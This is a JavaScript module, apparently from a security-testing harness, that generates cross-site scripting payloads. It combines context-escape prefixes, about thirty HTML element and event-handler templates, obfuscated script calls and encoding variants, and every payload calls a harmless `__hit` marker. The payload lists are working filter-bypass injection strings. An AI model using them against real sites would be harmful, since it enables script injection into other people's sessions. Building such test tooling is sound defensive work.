// Texts that want to be a page: made here, the same ones in every run, from no list of others.
//
// A payload is a way out of where it stands, an element with a way to act, and an act in some spelling; the act is always to
// call `__hit`. `payloads(n)` takes n of the product, spread evenly.

const OUT = [
  "", '">', "'>", "</textarea>", "</title>", "</script>", "</style>", "-->", "</option></select>", "</a>", "';", '"', "]]>",
  "</td></table>", "{{7*7}}", "</svg>", "\n", "</summary>", "--!>", "`",
];
const ACTS = [
  "__hit()", "top['__hit']()", "&#95;_hit()", "\\u005f_hit()", "eval(atob('X19oaXQoKQ=='))", "__hit``", "(0,__hit)()",
  "[1].map(__hit)", "self[`__h`+`it`]()", "alert(__hit())",
];
const ELEMENTS = [
  (act) => `<script>${act}</script>`,
  (act) => `<ScRiPt >${act}</sCrIpT >`,
  (act) => `<script src="data:,${act}"></script>`,
  (act) => `<img src=x onerror="${act}">`,
  (act) => `<IMG/SRC=x\tONERROR=${act}>`,
  (act) => `<svg onload="${act}">`,
  (act) => `<svg/onload=${act}>`,
  (act) => `<svg><animate onbegin="${act}" attributeName=x dur=1s>`,
  (act) => `<svg><script>${act}</script>`,
  (act) => `<math><mtext><img src=x onerror="${act}">`,
  (act) => `<body onload="${act}">`,
  (act) => `<details open ontoggle="${act}">`,
  (act) => `<input autofocus onfocus="${act}">`,
  (act) => `<video src=x onerror="${act}">`,
  (act) => `<audio src onloadstart="${act}">`,
  (act) => `<video><source onerror="${act}">`,
  (act) => `<iframe srcdoc="<script>parent.${act}</script>">`,
  (act) => `<iframe src="javascript:parent.${act}">`,
  (act) => `<object data="javascript:${act}">`,
  (act) => `<embed src="javascript:${act}">`,
  (act) => `<a href="javascript:${act}" autofocus onfocus="${act}">x</a>`,
  (act) => `<form><button formaction="javascript:${act}" autofocus onfocus="${act}">x`,
  (act) => `<meta http-equiv=refresh content="0;url=javascript:${act}">`,
  (act) => `<base href="javascript:${act}//">`,
  (act) => `<style>@keyframes k{}</style><b style="animation:k" onanimationstart="${act}">`,
  (act) => `<marquee onstart="${act}">`,
  (act) => `<noscript><p title="</noscript><img src=x onerror=${act}>">`,
  (act) => `<template><script>${act}</script></template>`,
  (act) => ` autofocus onfocus="${act}" x="`,
  (act) => ` onmouseover=${act} style=position:fixed;inset:0 `,
  (act) => `\${${act}}`,
];
const WRITINGS = [
  (text) => text,
  (text) => text.replaceAll("<", "&lt;").replaceAll(">", "&gt;"),
  (text) => text.replaceAll("<", "&#x3c;"),
  (text) => encodeURIComponent(text),
  (text) => text.replaceAll("<", "＜").replaceAll(">", "＞"),
  (text) => text.replaceAll("<", "\\u003c").replaceAll("'", "\\x27"),
];

/** So many payloads, none twice, the plain ones first. */
export function payloads(count) {
  const all = new Set();
  for (let n = 0; all.size < count; n += 1) {
    const element = ELEMENTS[n % ELEMENTS.length];
    const act = ACTS[Math.floor(n / ELEMENTS.length) % ACTS.length];
    const out = OUT[Math.floor(n / (ELEMENTS.length * ACTS.length)) % OUT.length];
    const writing = WRITINGS[Math.floor(n / (ELEMENTS.length * ACTS.length * OUT.length)) % WRITINGS.length];
    all.add(writing(out + element(act)).trim());
  }
  return [...all];
}

/** Payloads that fit a short field: what a person could type into forty characters. */
export function short(most, count) {
  const fit = [
    "<svg/onload=__hit()>", "<b onclick=__hit()>x", "<script>__hit()</script>", "'><svg/onload=__hit()>",
    '"><svg/onload=__hit()>', "</a><svg/onload=__hit()>", "&lt;svg/onload=__hit()>", "<img src=x onerror=__hit()>",
    '" autofocus onfocus=__hit() x="', "javascript:__hit()", "<svg onload=__hit()//", "{{__hit()}}", "<i>x", "'\"><x>", "<s>",
    "</td><svg/onload=__hit()>", "-->", "<!--", "]]>",
  ].filter((text) => text.length <= most);
  return Array.from({ length: count }, (_, n) => fit[n % fit.length]);
}

/** Texts of up to `most` characters that hold all payloads one after another. */
export function packed(list, most) {
  const texts = [];
  let text = "";
  for (const payload of list) {
    const next = text ? `${text}\n${payload}` : payload;
    if (next.length > most) {
      texts.push(text);
      text = payload;
    } else {
      text = next;
    }
  }
  return [...texts, text];
}
